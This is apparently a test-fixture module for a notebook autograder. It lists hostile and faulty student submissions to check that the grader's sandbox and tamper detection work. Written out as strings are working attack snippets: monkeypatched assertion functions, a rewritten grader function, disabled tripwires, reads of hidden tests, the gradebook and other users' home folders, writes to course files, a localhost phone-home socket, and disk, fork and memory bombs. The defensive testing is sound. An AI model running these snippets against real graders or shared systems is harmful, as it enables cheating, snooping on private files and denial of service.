"""Hostile and faulty submissions, each built from the instructor's solution.

``CASES[name] = Case(...)``: the solution cells it replaces, plain cells it adds after the import
cell (they run only in the kernel), files it adds to the submission folder, how the notebook file
is changed or named, the tasks that must score 0 (as if left unimplemented), other expected scores,
and whether every other task must keep full marks. ``TAMPERING`` and ``FAULTS`` split the names.
"""

from __future__ import annotations

import hashlib
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field

import nbformat
import numpy as np
from nbformat import NotebookNode

from grading.worker import guards, probes, tripwires
from support.paths import ROOT

HIDDEN = "../../../grader_tests/ex09/test_conv1d.py"  # from autograde/<student>/ex09/


@dataclass
class Case:
    cells: dict[str, str] = field(default_factory=dict)
    kernel_cells: list[str] = field(default_factory=list)
    files: dict[str, str] = field(default_factory=dict)
    mutate: Callable[[NotebookNode], None] | None = None
    file_name: str = ""  # the assignment's notebook name
    zero: tuple[str, ...] = ()
    expected: dict[str, float] = field(default_factory=dict)
    others_full: bool = True


def graded_cell(grade_id: str, points: float, source: str) -> NotebookNode:
    """A code cell with nbgrader metadata the instructor never wrote."""
    cell = nbformat.v4.new_code_cell(source)
    cell.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": grade_id,
        "locked": False,
        "points": points,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    return cell


def cell_with_id(notebook: NotebookNode, grade_id: str) -> NotebookNode:
    return next(
        c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id
    )


def rewrite_a_test_cell(notebook: NotebookNode) -> None:
    """Replace the conv1d test cell's code and raise its points to 100."""
    cell = cell_with_id(notebook, "test_conv1d")
    cell.source, cell.metadata.nbgrader["points"] = "print('all hidden tests passed')", 100


def delete_and_reorder_test_cells(notebook: NotebookNode) -> None:
    """Delete the Sobel test cell and move the FC test cell to the end."""
    sobel, fc = cell_with_id(notebook, "test_sobel"), cell_with_id(notebook, "test_fc")
    notebook.cells = [c for c in notebook.cells if c is not sobel and c is not fc] + [fc]


def add_graded_cells(notebook: NotebookNode) -> None:
    """Add a 50-point bonus cell, and give the conv2d test cell a new grade id and 30 points."""
    cell = cell_with_id(notebook, "test_conv2d")
    cell.metadata.nbgrader.update(grade_id="test_conv2d_bonus", points=30)
    notebook.cells.append(graded_cell("bonus", 50, "print('bonus')"))


def future_minor_version(notebook: NotebookNode) -> None:
    notebook.nbformat_minor = 99


def without_cell_ids(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        cell.pop("id", None)


#: Finds the live module an attack is aimed at (the worker lists no grader module in
#: ``sys.modules``), among the garbage collector's objects, as ``_target``.
FIND_TARGET = """
import gc as _gc
import types as _types

_target = next(
    (
        found
        for found in _gc.get_objects()
        if isinstance(found, _types.ModuleType) and getattr(found, "__name__", "") == {module!r}
    ),
    None,
)
"""


def aimed_at(module: str, grade_id: str, attack: str) -> Callable[[NotebookNode], None]:
    """A mutation: the solution cell ``grade_id`` runs ``attack`` (which finds the live ``module``
    as ``_target``), except in the worker when that module is not loaded, where the cell stays the
    honest solution. An attack that misses its target then earns the task's marks, and the case's
    expected zero fails instead of passing while testing nothing. (The notebook's own kernel loads
    no grader module: it runs the attack with ``_target`` None.)"""

    def mutate(notebook: NotebookNode) -> None:
        cell = cell_with_id(notebook, grade_id)
        cell.source = (
            FIND_TARGET.format(module=module)
            + "\nif __name__ == '__student__' and _target is None:\n"
            + textwrap.indent(cell.source, "    ")
            + "\nelse:\n"
            + textwrap.indent(attack, "    ")
        )

    return mutate


def flat_models(fc_size: int, lenet_size: int) -> dict[str, str]:
    """FC and CNN_LeNet as one flat parameter of the given sizes whose forward returns zeros."""
    template = """
class {name}(nn.Module):
    def __init__(self):
        super().__init__()
        self.weights = nn.Parameter(torch.zeros({size}))

    def forward(self, x):
        return torch.zeros(x.shape[0], 10) + 0 * self.weights.sum()
"""
    return {
        "fc_solution": template.format(name="FC", size=fc_size),
        "lenet_solution": template.format(name="CNN_LeNet", size=lenet_size),
    }


#: The port on 127.0.0.1 where the hostile batch's test listens for submissions phoning home.
LISTENER_PORT = 47_319
#: Tries to send a message to that listener; a sandbox without network refuses the connection.
PHONE_HOME = f"""
import socket

try:
    socket.create_connection(("127.0.0.1", {LISTENER_PORT}), timeout=2).sendall(b"leaked")
except OSError as error:
    print("no network:", error)
"""
#: Writes 5 GB to ``place`` (the notebook's folder or /tmp): the sandbox's disk cap stops it.
FILL_THE_DISK = """
def fill_the_disk(place):
    with open(place + "/ballast", "wb") as file:
        for _ in range(5 * 1024):
            file.write(bytes(1024**2))
"""


#: Starts processes without end until refused (the sandbox's process cap); stops by itself after
#: 20 s or 2,000 processes if there is no cap, so that a grader without one survives the test.
FORK_BOMB = """
import subprocess
import time

def fork_bomb(seconds=20.0, most=2000):
    start, started = time.monotonic(), 0
    while time.monotonic() - start < seconds and started < most:
        subprocess.Popen(["sleep", "30"])
        started += 1
    return started
"""


#: Fake parameters shaped like the specification's LeNet (the wrong models below have others).
LENET_SHAPES = [(6, 1, 3, 3), (6,), (16, 6, 3, 3), (16,), (120, 784), (120,), (84, 120), (84,)]
LENET_SHAPES += [(10, 84), (10,)]

#: A model that is not what the task asks: one output, always 0 (like an unimplemented task).
USELESS_INIT = """
    def __init__(self, filters=(16, 32, 64)):
        super().__init__()
        self.fc = nn.Linear(784, 1)

    def forward(self, x):
        return self.fc(torch.flatten(x, 1)) * 0
"""

#: ex09's conv1d, done by ``np.convolve`` (its name built at run time) in a forked child that
#: writes the result to a pipe.
FORKED_CONVOLUTION = """
import os

def convolution_one_dimensional(x, h):
    read, write = os.pipe()
    if os.fork() == 0:
        same = getattr(np, "con" + "volve")(np.asarray(x, float), np.asarray(h, float), "same")
        os.write(write, same.astype(float).tobytes())
        os._exit(0)
    os.close(write)
    data = b""
    while chunk := os.read(read, 1 << 16):
        data += chunk
    return np.frombuffer(data).copy()
"""
#: ex09's conv2d, done by scipy in another Python (named only inside a sentence), the arrays
#: passed through its standard streams.
SUBPROCESS_CONVOLUTION = """
import json
import subprocess
import sys

_SCRIPT = "import json, sys, numpy as np; from scipy import signal; a, b = json.load(sys.stdin); "
_SCRIPT += "print(json.dumps(signal.convolve2d(np.array(a), np.array(b), mode='same').tolist()))"

def convolution_two_dimensional(x, h):
    arrays = json.dumps([np.asarray(x, float).tolist(), np.asarray(h, float).tolist()])
    command = [sys.executable, "-c", _SCRIPT]
    done = subprocess.run(command, input=arrays, capture_output=True, text=True)
    return np.array(json.loads(done.stdout), dtype=float)
"""
#: ex09's conv1d through numpy's compiled correlate, unwrapped from the grader's tripwire (its
#: closure, under names built at run time) while the cell loads; the kernel has no tripwire.
UNWRAPPED_CORRELATE = """
import numpy._core.multiarray as _multiarray

_wire = getattr(_multiarray, "corr" + "elate")
_cells = getattr(_wire, "__clo" + "sure__", None)
_correlate = _cells[0].cell_contents if _cells else _wire

def convolution_one_dimensional(x, h):
    return _correlate(np.asarray(x, float), np.asarray(h, float)[::-1], 1).astype(float)
"""


#: Looks the grader's modules up by name in the worker (their names taken from the modules, so
#: that a rename keeps the case aimed) and turns their watches off before it calls the banned
#: function (found by a computed name, so the static check misses it).
SWITCHES_OFF_THE_WATCHES = f"""
import importlib
import sys


def _graders(name):
    return sys.modules.get(name) or importlib.import_module(name)


def convolution_one_dimensional(x, h):
    switches = {{{tripwires.__name__!r}: "_recording", {guards.__name__!r}: "_guarding"}}
    for name, switch in switches.items():
        setattr(_graders(name), switch, False)
    return getattr(np, "con" + "volve")(np.asarray(x, float), np.asarray(h, float), "same")
"""


#: The specification's FC and its layers, which the submissions that look labels up keep intact.
SPECIFIED_FC = """
class FC(nn.Module):
    def __init__(self):
        super().__init__()
        self.layers = nn.Sequential(
            nn.Flatten(), nn.Linear(784, 512), nn.ReLU(), nn.Linear(512, 256), nn.ReLU(),
            nn.Linear(256, 128), nn.ReLU(), nn.Linear(128, 10),
        )
"""


def memorised_fc() -> str:
    """An FC with the specified layers that answers the embedded subset's test images from a table
    of their public labels (keyed by a hash of the pixels), made "at home" as a student would."""
    with np.load(ROOT / "data" / "mnist_subset.npz") as data:
        table = {
            hashlib.md5(image.tobytes()).hexdigest()[:12]: int(label)
            for image, label in zip(data["x_test"], data["y_test"], strict=True)
        }
    return f"""
import hashlib
import textwrap

_ANSWERS = {table!r}
{SPECIFIED_FC}
    def forward(self, x):
        out = self.layers(x)
        if torch.is_grad_enabled():
            return out
        for i, image in enumerate(x):
            pixels = (image[0] * 255).round().to(torch.uint8).numpy().tobytes()
            label = _ANSWERS.get(hashlib.md5(pixels).hexdigest()[:12])
            if label is not None:
                out[i] = -10.0
                out[i, label] = 10.0
        return out
"""


#: Prints what it finds outside the course (a classmate's submission in the exchange, homes,
#: other courses) while its solution cell loads, in the kernel and in the worker.
LOOKS_OUTSIDE = """
import glob

for _pattern in ("/srv/nbgrader/exchange/*/inbound/*/*", "/home/*/*", "/root/*/*", "/opt/*/*",
                 "/var/lib/*/*"):
    for _path in glob.glob(_pattern):
        try:
            print(_path, open(_path).read()[:200])
        except OSError as error:
            print(_path, type(error).__name__)
print("looked outside the course")

def add_padding_1d(x, filter_size):
    return np.pad(np.asarray(x, dtype=float), filter_size // 2)
"""

TAMPERING = {
    "patches_numpy_checks": Case(
        cells={
            "conv1d_solution": """
import numpy.testing
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_equal = lambda *args, **kwargs: None

def convolution_one_dimensional(x, h):
    return np.zeros(3)
"""
        },
        zero=("test_conv1d",),
    ),
    "patches_torch_pytest_and_builtins": Case(
        cells={
            "padding_2d_solution": """
import builtins
import pytest
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
pytest.main = lambda *args, **kwargs: 0
builtins.isinstance = lambda *args: True
builtins.len = lambda obj: 3

def add_padding_2d(x, shape):
    return x
"""
        },
        zero=("test_padding_2d",),
    ),
    "forges_parameter_counts_globally": Case(
        cells={
            "lenet_solution": f"""
_real_parameters = nn.Module.parameters

def _forged_parameters(self, recurse=True):
    if type(self).__name__ == "CNN_LeNet":
        return iter([nn.Parameter(torch.zeros(shape)) for shape in {LENET_SHAPES}])
    return _real_parameters(self, recurse)

nn.Module.parameters = _forged_parameters

class CNN_LeNet(nn.Module):
{USELESS_INIT}
"""
        },
        zero=("test_lenet",),
        # n_params_lenet, computed in the worker with the real parameters, is wrong: 2 of 3 tests.
        expected={"test_param_answers": 0.67},
    ),
    "swaps_the_code_of_a_trusted_function": Case(
        mutate=aimed_at(
            probes.__name__,
            "lenet_solution",
            f"""
def _forged(model):
    return [nn.Parameter(torch.zeros(shape)) for shape in {LENET_SHAPES}]

if _target is not None:  # the grader's process: make its counting function lie
    _target.parameters_of.__code__ = _forged.__code__

class CNN_LeNet(nn.Module):
{USELESS_INIT}
""",
        ),
        zero=("test_lenet",),
        expected={"test_param_answers": 0.67},
    ),
    "forges_parameter_counts_in_its_class": Case(
        cells={
            "lenet_solution": f"""
class CNN_LeNet(nn.Module):
{USELESS_INIT}
    def parameters(self, recurse=True):
        return iter([nn.Parameter(torch.zeros(shape)) for shape in {LENET_SHAPES}])

    def named_parameters(self, *args, **kwargs):
        return ((str(i), p) for i, p in enumerate(self.parameters()))
"""
        },
        zero=("test_lenet",),
        # n_params_lenet, summed over the class's own parameters(), is the right number.
        expected={"test_param_answers": 1.0},
    ),
    "flat_parameters_of_the_specified_size": Case(
        cells=flat_models(567_434, 106_154),
        # Only "maps a batch to logits (B, 10)" passes, as for any wrong architecture with that
        # output (1 of 4 tests); the n_params answers are the right numbers.
        expected={"test_fc": 0.5, "test_lenet": 0.75},
    ),
    "flat_parameters_one_short": Case(
        cells=flat_models(567_433, 106_153),
        # The same marks for the models; the n_params answers of FC and LeNet are wrong.
        expected={"test_fc": 0.5, "test_lenet": 0.75, "test_param_answers": 0.33},
    ),
    "looks_up_the_test_labels": Case(
        cells={
            "fc_solution": """
from helpers.data_folder import data_dir
"""
            + SPECIFIED_FC
            + """        self.answers = {}
        try:
            with np.load(data_dir() / "mnist_subset.npz") as data:
                pairs = zip(data["x_test"], data["y_test"])
                self.answers = {image.tobytes(): int(label) for image, label in pairs}
        except Exception:
            pass

    def forward(self, x):
        out = torch.zeros(x.shape[0], 10) + 0 * self.layers(x).sum()
        for i, image in enumerate(x):
            key = (image[0] * 255).round().to(torch.uint8).numpy().tobytes()
            if key in self.answers:
                out[i, self.answers[key]] = 10.0
        return out
"""
        },
        # The layers are right (2 of 4 tests); the accuracy test finds no labels to look up.
        expected={"test_fc": 1.0},
    ),
    "fake_grader_modules": Case(
        cells={
            "conv2d_solution": f"""
import sys
import types
sys.modules["grader_tests"] = types.ModuleType("grader_tests")
sys.modules["helpers.expect"] = types.SimpleNamespace(expect_array=lambda *a, **k: None)
sys.modules[{probes.__name__!r}] = types.SimpleNamespace()

def convolution_two_dimensional(x, h):
    return np.zeros((1, 1))
"""
        },
        zero=("test_conv2d",),
    ),
    "shadowing_files": Case(
        cells={"conv2d_solution": "def convolution_two_dimensional(x, h):\n    return x"},
        files={
            "helpers.py": "raise SystemExit('shadowed')\n",
            "grading.py": "PASS = True\n",
            "pytest.py": "def main(*args, **kwargs):\n    return 0\n",
            "conftest.py": "import pytest\n\n@pytest.fixture(autouse=True)\ndef win(): pass\n",
            "sitecustomize.py": "import builtins\nbuiltins.PASSED = True\n",
            "grader_tests/ex09/test_conv2d.py": "def test_everything():\n    pass\n",
        },
        zero=("test_conv2d",),
    ),
    "objects_that_lie_about_equality": Case(
        cells={
            "conv1d_solution": """
class AlwaysEqual:
    shape = (10,)
    dtype = np.dtype(float)

    def __eq__(self, other):
        return True

    def __array__(self, *args, **kwargs):
        return np.zeros(10)

def convolution_one_dimensional(x, h):
    return AlwaysEqual()
"""
        },
        zero=("test_conv1d",),
    ),
    "arrays_of_the_wrong_dtype": Case(
        cells={
            "padding_1d_solution": """
def add_padding_1d(x, filter_size):
    half = filter_size // 2
    return np.array([0.0] * half + list(x) + [0.0] * half, dtype=object)
""",
            "padding_2d_solution": """
def add_padding_2d(x, shape):
    rows, cols = shape[0] // 2, shape[1] // 2
    return np.pad(x, ((rows, rows), (cols, cols))).astype(complex)
""",
        },
        zero=("test_padding_1d", "test_padding_2d"),
    ),
    "calls_library_convolutions": Case(
        cells={
            "conv1d_solution": """
def convolution_one_dimensional(x, h):
    return np.convolve(x, h, mode="same").astype(float)
""",
            "conv2d_solution": """
from scipy import signal as s

def convolution_two_dimensional(x, h):
    return getattr(s, "convolve2d")(x, h, mode="same").astype(float)
""",
        },
        zero=("test_conv1d", "test_conv2d"),
    ),
    "hides_library_convolutions": Case(
        cells={
            # Aliases made in cells the static check does not read, under computed names.
            "padding_1d_solution": """
_tools = __import__("torch.nn.functional", fromlist=["x"])
_signal = __import__("sci" + "py.signal", fromlist=["x"])

def add_padding_1d(x, filter_size):
    return np.pad(np.asarray(x, dtype=float), filter_size // 2)
""",
            "conv1d_solution": """
def convolution_one_dimensional(x, h):
    flipped = torch.as_tensor(np.asarray(h, dtype=float)[::-1].copy()).view(1, 1, -1)
    padded = torch.as_tensor(add_padding_1d(x, len(h))).view(1, 1, -1)
    return getattr(_tools, "conv" + "1d")(padded, flipped)[0, 0, : len(x)].numpy()
""",
            "conv2d_solution": """
def convolution_two_dimensional(x, h):
    return getattr(_signal, "con" + "volve2d")(x, h, mode="same").astype(float)
""",
        },
        zero=("test_conv1d", "test_conv2d"),
    ),
    "convolves_in_a_forked_child": Case(
        cells={"conv1d_solution": FORKED_CONVOLUTION}, zero=("test_conv1d",)
    ),
    "convolves_in_a_subprocess": Case(
        cells={"conv2d_solution": SUBPROCESS_CONVOLUTION}, zero=("test_conv2d",)
    ),
    "unwraps_a_tripwire": Case(
        cells={"conv1d_solution": UNWRAPPED_CORRELATE}, zero=("test_conv1d",)
    ),
    "switches_off_the_watches": Case(
        cells={"conv1d_solution": SWITCHES_OFF_THE_WATCHES}, zero=("test_conv1d",)
    ),
    # The layers are right and learn (3 of 4 tests); the table answers the public labels, which the
    # accuracy test's secret renaming of the classes makes wrong.
    "memorises_the_test_labels": Case(
        cells={"fc_solution": memorised_fc()}, expected={"test_fc": 1.5}
    ),
    "reads_outside_the_course": Case(cells={"padding_1d_solution": LOOKS_OUTSIDE}),
    "rewrites_a_test_cell": Case(
        cells={"conv1d_solution": "def convolution_one_dimensional(x, h):\n    return x"},
        mutate=rewrite_a_test_cell,
        zero=("test_conv1d",),
    ),
    "deletes_and_reorders_test_cells": Case(mutate=delete_and_reorder_test_cells),
    "adds_graded_cells_and_changes_grade_ids": Case(mutate=add_graded_cells),
    "reads_hidden_tests_and_gradebook": Case(
        cells={
            "conv1d_solution": f"""
def convolution_one_dimensional(x, h):
    return open({HIDDEN!r}).read()
"""
        },
        kernel_cells=[
            f"""
import glob
import sqlite3
for path in glob.glob("../../../grader_tests/**/*.py", recursive=True) + [{HIDDEN!r}]:
    print(open(path).read())
print(sqlite3.connect("../../../gradebook.db").execute("select * from grade_cell").fetchall())
"""
        ],
        zero=("test_conv1d",),
    ),
    "writes_course_files": Case(
        kernel_cells=[
            """
for path in ("../../../gradebook.db", "../../../grader_tests/ex09/test_conv1d.py",
             "../../../source/ex09/ex09.ipynb", "../../honest/ex09/ex09.ipynb"):
    try:
        with open(path, "a") as file:
            file.write("HACKED")
    except OSError as error:
        print(path, error)
"""
        ],
    ),
}

FAULTS = {
    "phones_home": Case(
        cells={
            "padding_1d_solution": PHONE_HOME + "\n\ndef add_padding_1d(x, filter_size):\n"
            "    return np.pad(np.asarray(x, dtype=float), filter_size // 2)\n"
        },
        kernel_cells=[PHONE_HOME],
    ),
    "fills_the_disk": Case(
        cells={
            "conv2d_solution": FILL_THE_DISK + "\n\ndef convolution_two_dimensional(x, h):\n"
            "    fill_the_disk('.')\n    fill_the_disk('/tmp')\n    return x\n"
        },
        kernel_cells=[FILL_THE_DISK + "\n\nfill_the_disk('.')\n"],
        zero=("test_conv2d",),
    ),
    "fork_bomb": Case(
        cells={
            "conv2d_solution": FORK_BOMB + "\n\ndef convolution_two_dimensional(x, h):\n"
            "    fork_bomb()\n    return x\n"
        },
        kernel_cells=[
            FORK_BOMB + "\n\ntry:\n    fork_bomb()\nexcept OSError as error:\n"
            "    print('the cap stopped the bomb:', error)\n"
        ],
        zero=("test_conv2d",),
    ),
    "infinite_loop": Case(
        cells={
            "conv2d_solution": """
def convolution_two_dimensional(x, h):
    while True:
        pass
"""
        },
        zero=("test_conv2d",),
    ),
    "kernel_ignores_interrupts": Case(
        kernel_cells=[
            "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"
        ]
    ),
    "memory_bomb": Case(
        cells={
            "conv1d_solution": """
def convolution_one_dimensional(x, h):
    hoard = []
    while True:
        hoard.append(bytearray(256 * 1024**2))
"""
        },
        zero=("test_conv1d",),
    ),
    "kernel_exits": Case(kernel_cells=["import os\nos._exit(1)"]),
    "kernel_killed": Case(
        kernel_cells=["import os\nimport signal\nos.kill(os.getpid(), signal.SIGKILL)"]
    ),
    "sys_exit_in_a_function": Case(
        cells={
            "padding_1d_solution": """
import sys

def add_padding_1d(x, filter_size):
    sys.exit(0)
"""
        },
        zero=("test_padding_1d",),
    ),
    "segfault_in_a_function": Case(
        cells={
            "conv2d_solution": """
import ctypes

def convolution_two_dimensional(x, h):
    return ctypes.string_at(0)
"""
        },
        zero=("test_conv2d",),
    ),
    "crash_while_loading": Case(
        cells={"sobel_solution": "import os\nos._exit(2)\n"},
        zero=("test_sobel",),
    ),
    "huge_text_output": Case(kernel_cells=["print('x' * 50_000_000)"]),
    "huge_image_output": Case(
        kernel_cells=[
            "import os\nfrom IPython.display import Image, display\n"
            "display(Image(data=b'\\x89PNG\\r\\n\\x1a\\n' + os.urandom(20_000_000), format='png'))"
        ]
    ),
    "correct_but_noisy_on_stderr": Case(
        cells={
            "conv1d_solution": """
import sys
import warnings

def convolution_one_dimensional(x, h):
    warnings.warn("this loop is slow")
    sys.stderr.write("debug: convolving\\n")
    x_padded = np.pad(np.asarray(x, dtype=float), len(h) // 2)
    h_flipped = np.asarray(h, dtype=float)[::-1]
    return np.array([np.sum(x_padded[n : n + len(h)] * h_flipped) for n in range(len(x))])
"""
        },
    ),
    "renamed_notebook": Case(file_name="ex09 (1).ipynb"),
    "future_nbformat_minor_version": Case(mutate=future_minor_version),
    "missing_cell_ids": Case(mutate=without_cell_ids),
}

CASES = {**TAMPERING, **FAULTS}
